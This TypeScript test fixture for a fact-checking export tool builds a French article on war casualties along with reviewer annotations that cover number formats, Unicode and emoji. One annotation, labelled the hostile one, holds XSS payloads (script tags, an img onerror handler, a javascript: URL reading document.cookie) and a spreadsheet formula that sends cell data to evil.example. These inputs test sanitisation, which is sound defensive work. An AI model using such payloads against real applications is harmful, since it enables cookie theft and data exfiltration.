import { OPTIONS, KARIM, JANE, MARIE, annotate, br, buildArticle, comment, h, link, orphan, p, quote, t, ul } from "./build-fixture";
import type { ExportInput } from "../types";

/**
 * A French war-casualties story as newsrooms receive them: figures in local formats
 * (280.000, 15 902 with a narrow no-break space, 87 % with a no-break space, six
 * millions), attributions, typographic apostrophes, and emoji outside the BMP (a flag is
 * two code points, a thumbs-up with a skin tone is two as well) before annotated spans.
 */
export const frenchArticle = buildArticle({
  id: "7f3e9c1a-4b2d-4e8f-9a6c-1d2e3f4a5b6c",
  title: "🇷🇺 Guerre en Ukraine : Moscou aurait perdu 280.000 soldats, selon Londres",
  url: "https://www.exemple-presse.fr/international/ukraine-pertes-russes-280000",
  outlet: "Le Quotidien d’Exemple",
  author: "Claire Martin",
  language: "fr",
  publishedAt: "2025-03-01T06:30:00.000Z",
  blocks: [
    p(
      t("🇷🇺 L’armée russe aurait perdu près de "),
      t("280.000 soldats", "bold"),
      t(" depuis le début de l’invasion, selon les services britanniques. 👍🏽 Un chiffre que Moscou conteste."),
    ),
    h(2, "Des pertes difficiles à vérifier"),
    p(
      t("Le ministère russe de la Défense affirme de son côté avoir « neutralisé » 15\u202f902 soldats ukrainiens en un mois, "),
      t("cité par l’agence TASS", "italic"),
      t("."),
    ),
    ul(
      [p(t("87\u00a0% des Russes soutiendraient l’« opération militaire spéciale », d’après le centre Levada."))],
      [p(t("Selon le HCR, six millions de réfugiés ukrainiens étaient enregistrés en Europe au 1er janvier."))],
    ),
    quote(p(t("« Nous ne publierons pas nos pertes », a déclaré le porte-parole du Kremlin."))),
    p(
      t("Source : "),
      link("rapport du ministère britannique de la Défense", "https://www.gov.uk/government/news/defence-intelligence-update"),
      br(),
      t("Mise à jour le 3 mars à 9 h."),
    ),
  ],
});

const a = frenchArticle;

export const sourceLondon = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000001",
  kind: "source",
  quote: "selon les services britanniques",
  status: "verified",
  rationale: "Point de situation quotidien du renseignement militaire britannique.",
  verdictBy: MARIE,
  signedOffBy: KARIM,
  signedOffAt: "2025-03-03T15:00:00.000Z",
});

export const claimLosses = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000002",
  kind: "claim",
  quote: "L’armée russe aurait perdu près de 280.000 soldats depuis le début de l’invasion, selon les services britanniques",
  status: "verified",
  verdict: "mostly_accurate",
  rationale: "Le chiffre est celui du renseignement britannique ; il inclut les blessés.",
  note: "Demander à Londres la méthode de comptage — ne pas publier.",
  sourceId: sourceLondon.id,
  verdictBy: MARIE,
  signedOffBy: KARIM,
  signedOffAt: "2025-03-03T16:20:00.000Z",
  evidence: [
    {
      url: "https://www.gov.uk/government/news/defence-intelligence-update",
      title: "Defence Intelligence update",
      quote: "Russia has likely suffered 280,000 casualties",
      note: "Capture d’écran archivée",
    },
  ],
});

export const figureLosses = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000003",
  kind: "figure",
  quote: "280.000 soldats",
  status: "in_review",
  verdict: "misleading",
  rationale: "280.000 désigne les pertes (tués et blessés), pas les morts.",
  sourceId: sourceLondon.id,
  verdictBy: JANE,
  evidence: [
    { url: "https://fr.wikipedia.org/wiki/Pertes_humaines_de_la_guerre_russo-ukrainienne", title: "Pertes humaines — Wikipédia", quote: "", note: "" },
    { url: "https://www.bbc.com/afrique/monde-64000000", title: "", quote: "", note: "" },
  ],
});

export const sourceTass = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000004",
  kind: "source",
  quote: "cité par l’agence TASS",
  status: "in_progress",
});

export const claimNeutralised = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000005",
  kind: "claim",
  quote: "avoir « neutralisé » 15\u202f902 soldats",
  status: "in_review",
  verdict: "unverifiable",
  rationale: "Aucune source indépendante ne permet de vérifier ce bilan.",
  sourceId: sourceTass.id,
  verdictBy: MARIE,
});

export const figureUkrainians = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000006",
  kind: "figure",
  quote: "15\u202f902 soldats ukrainiens en un mois",
  status: "verified",
  verdict: "false",
  rationale: "Le bilan TASS additionne des chiffres de plusieurs mois.",
  verdictBy: JANE,
  signedOffBy: MARIE,
  signedOffAt: "2025-03-03T17:45:00.000Z",
});

export const figurePoll = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000007",
  kind: "figure",
  quote: "87\u00a0%",
  status: "in_review",
  verdict: "accurate",
  rationale: "Sondage Levada de février, 1 600 personnes interrogées.",
  verdictBy: MARIE,
  updatedAt: "2025-03-03T18:10:00.000Z",
});

export const figureRefugees = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000008",
  kind: "figure",
  quote: "six millions",
  status: "unverified",
});

/** The hostile one: markup and a spreadsheet formula where people type free text. */
export const claimKremlin = annotate(a, {
  id: "a1000000-0000-4000-8000-000000000009",
  kind: "claim",
  quote: "Nous ne publierons pas nos pertes",
  status: "in_progress",
  verdict: "accurate",
  rationale: '<script>alert("rationale")</script> La citation figure dans le compte rendu officiel.',
  note: '=HYPERLINK("https://evil.example/?leak="&A1;"clic") <script>alert("note")</script>',
  evidence: [
    { url: "javascript:alert(document.cookie)", title: '<img src=x onerror=alert(1)>', quote: "", note: "" },
    { url: "https://kremlin.example.ru/events/president/transcripts/12345", title: "Compte rendu | Kremlin", quote: "«Nous ne publierons pas»", note: "+33 6 00 00 00 00" },
  ],
});

export const orphanClaim = orphan(a, {
  id: "a1000000-0000-4000-8000-00000000000a",
  kind: "claim",
  quote: "Le président russe a démenti ces chiffres dimanche",
  prefix: "Un chiffre que Moscou conteste. ",
  suffix: "",
  status: "in_review",
  verdict: "false",
  rationale: "Aucune déclaration de ce type n’a été trouvée.",
  createdAt: "2025-03-02T09:00:00.000Z",
});

export const frenchAnnotations = [
  claimLosses,
  figureLosses,
  sourceLondon,
  claimNeutralised,
  figureUkrainians,
  sourceTass,
  figurePoll,
  figureRefugees,
  claimKremlin,
  orphanClaim,
];

export const frenchInput: ExportInput = {
  article: frenchArticle,
  annotations: frenchAnnotations,
  comments: {
    [claimLosses.id]: [
      comment(claimLosses.id, "c0000000-0000-4000-8000-000000000001", KARIM, "J’ai appelé le MoD, réponse attendue lundi.", "2025-03-03T12:00:00.000Z"),
    ],
  },
  options: OPTIONS,
};
